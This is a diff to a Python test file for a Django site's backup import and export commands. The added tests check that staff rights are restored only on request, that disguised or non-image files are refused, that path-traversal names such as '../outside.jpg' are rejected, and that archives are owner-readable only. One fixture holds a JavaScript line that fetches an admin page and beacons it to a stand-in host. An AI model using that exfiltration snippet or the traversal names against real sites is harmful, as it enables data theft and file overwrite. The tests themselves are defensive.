@@ -2,6 +2,7 @@
 
 import io
 import json
+import os
 import re
 import tarfile
 from pathlib import Path
@@ -65,9 +66,9 @@ def backup(site, tmp_path):
     return path
 
 
-def import_backup(path) -> str:
+def import_backup(path, *options) -> str:
     output = io.StringIO()
-    call_command("import_backup", str(path), stdout=output)
+    call_command("import_backup", str(path), *options, stdout=output)
     return output.getvalue().strip()
 
 
@@ -123,7 +124,8 @@ def photo_files() -> list:
 
 
 def repack(source, target, *, leave_out=(), replace=None):
-    """A copy of the archive `source` with some members left out or replaced."""
+    """A copy of the archive `source` with some members left out, replaced, or added (those of `replace` that it
+    does not have)."""
     replace = replace or {}
     with tarfile.open(source) as old, tarfile.open(target, "w:gz") as new:
         for member in old.getmembers():
@@ -131,6 +133,10 @@ def repack(source, target, *, leave_out=(), replace=None):
                 data = replace.get(member.name) or old.extractfile(member).read()
                 member.size = len(data)
                 new.addfile(member, io.BytesIO(data))
+        for name in replace.keys() - set(old.getnames()):
+            member = tarfile.TarInfo(name)
+            member.size = len(replace[name])
+            new.addfile(member, io.BytesIO(replace[name]))
     return target
 
 
@@ -142,7 +148,7 @@ def test_a_restore_brings_back_every_field_of_every_row_and_every_image(backup, 
     delete_everything()
     assert media_files(media_root) == [] and not User.objects.exists()
 
-    output = import_backup(backup)
+    output = import_backup(backup, "--restore-staff")
 
     assert output == (
         "Imported 4 users (0 already there), 3 predictions with 3 images (0 already there), "
@@ -159,7 +165,7 @@ def test_a_site_on_object_storage_is_exported_from_its_bucket_and_restored_into_
     delete_everything()
     assert object_storage.keys() == set()
 
-    import_backup(backup)
+    import_backup(backup, "--restore-staff")
 
     assert everything() == before
     assert object_storage.keys() == stored
@@ -191,8 +197,8 @@ def test_importing_the_same_backup_twice_adds_nothing_the_second_time(backup, me
     ), "importing into the site it came from adds nothing"
     before, files_before = everything(), photo_files()
     delete_everything()
-    import_backup(backup)
-    import_backup(backup)
+    import_backup(backup, "--restore-staff")
+    import_backup(backup, "--restore-staff")
     assert everything() == before
     assert media_files(media_root) == files_before
 
@@ -204,6 +210,88 @@ def test_an_existing_user_is_kept_as_it_is(backup, make_user):
     alice = User.objects.get(username="alice")
     assert alice.email == "alice@new.example.com" and alice.check_password("a newer password")
     assert alice.predictions.count() == 2 and alice.conversations.count() == 1
+
+
+def test_staff_and_superuser_status_is_restored_only_when_asked(backup):
+    delete_everything()
+    output = import_backup(backup)
+    assert output.splitlines()[-1] == (
+        "Created 1 users without the staff or superuser status the archive gives them (stella): grant it again in "
+        "the admin, or import into an empty site with --restore-staff."
+    )
+    stella = User.objects.get(username="stella")
+    assert not stella.is_staff and not stella.is_superuser
+    assert stella.check_password(PASSWORD), "the account itself survives"
+
+    delete_everything()
+    assert "without the staff" not in import_backup(backup, "--restore-staff")
+    stella = User.objects.get(username="stella")
+    assert stella.is_staff and stella.is_superuser
+
+
+def test_restoring_staff_status_never_changes_an_existing_user(backup, make_user):
+    delete_everything()
+    make_user("stella")
+    assert "without the staff" not in import_backup(backup, "--restore-staff")
+    stella = User.objects.get(username="stella")
+    assert not stella.is_staff and not stella.is_superuser
+
+
+def with_last_image(backup, path, *, name, data, content_type):
+    """A copy of the archive whose last prediction's image is `data`, archived as `name` with `content_type`."""
+    with tarfile.open(backup) as archive:
+        rows = [json.loads(line) for line in archive.extractfile("predictions.jsonl").read().splitlines()]
+    archived_name = rows[-1]["image"]
+    rows[-1] |= {"image": name, "content_type": content_type}
+    written = "".join(json.dumps(row) + "\n" for row in rows).encode()
+    replace = {"predictions.jsonl": written, f"files/{name}": data}
+    return repack(backup, path, leave_out={f"files/{archived_name}"}, replace=replace)
+
+
+def test_an_archived_image_gets_the_content_type_and_suffix_of_what_its_bytes_are(backup, tmp_path):
+    truck = Prediction.objects.order_by("pk").last()
+    jpeg = truck.image.read()
+    truck.image.close()
+    disguised = with_last_image(
+        backup, tmp_path / "disguised.tar.gz", name="predictions/x.js", data=jpeg, content_type="text/javascript"
+    )
+    delete_everything()
+    import_backup(disguised)
+    restored = Prediction.objects.get(original_name="truck.jpg")
+    assert restored.image.name == "predictions/x.jpg" and restored.content_type == "image/jpeg"
+    assert restored.image.read() == jpeg
+    restored.image.close()
+
+
+def test_an_archived_file_that_is_not_an_accepted_image_is_a_one_line_error_and_changes_nothing(
+    backup, tmp_path, media_root
+):
+    script = with_last_image(
+        backup,
+        tmp_path / "script.tar.gz",
+        name="predictions/x.js",
+        data=b"fetch('/admin/').then(page => navigator.sendBeacon('//example.invalid', page));\n",
+        content_type="text/javascript",
+    )
+    delete_everything()
+    with pytest.raises(
+        CommandError, match="The image predictions/x.js in the archive is refused: it is not a"
+    ) as error:
+        import_backup(script)
+    assert "\n" not in str(error.value)
+    assert not User.objects.exists() and not Prediction.objects.exists() and not Conversation.objects.exists()
+    assert media_files(media_root) == []
+
+
+@pytest.mark.parametrize("name", ["../outside.jpg", "/etc/outside.jpg", ".", "predictions/.."])
+def test_an_image_name_outside_storage_or_without_a_file_name_is_refused(backup, tmp_path, media_root, name):
+    with tarfile.open(backup) as archive:
+        jpeg = archive.extractfile(f"files/{Prediction.objects.order_by('pk').last().image.name}").read()
+    unsafe = with_last_image(backup, tmp_path / "unsafe.tar.gz", name=name, data=jpeg, content_type="image/jpeg")
+    delete_everything()
+    with pytest.raises(CommandError, match="not a safe storage name"):
+        import_backup(unsafe)
+    assert not Prediction.objects.exists() and media_files(media_root) == []
 
 
 def test_an_identical_image_in_storage_is_reused_and_a_different_one_is_never_overwritten(backup, media_root):
@@ -360,6 +448,20 @@ def test_the_archives_the_fuzzer_found_are_refused(media_root, archive, message)
 def test_an_archive_that_does_not_exist_is_a_one_line_error(tmp_path):
     with pytest.raises(CommandError, match="does not exist"):
         import_backup(tmp_path / "missing.tar.gz")
+
+
+def test_the_archive_is_readable_by_its_owner_alone_whatever_the_umask(site, tmp_path):
+    path = tmp_path / "backup.tar.gz"
+    path.write_bytes(b"an older archive")
+    path.chmod(0o644)
+    permissive = os.umask(0o022)
+    try:
+        call_command("export_backup", str(path), stdout=io.StringIO())
+    finally:
+        os.umask(permissive)
+    assert os.stat(path).st_mode & 0o777 == 0o600
+    with tarfile.open(path) as archive:
+        assert archive.getnames()[0] == "manifest.json"
 
 
 def test_a_failed_export_leaves_no_archive_behind(site, tmp_path):
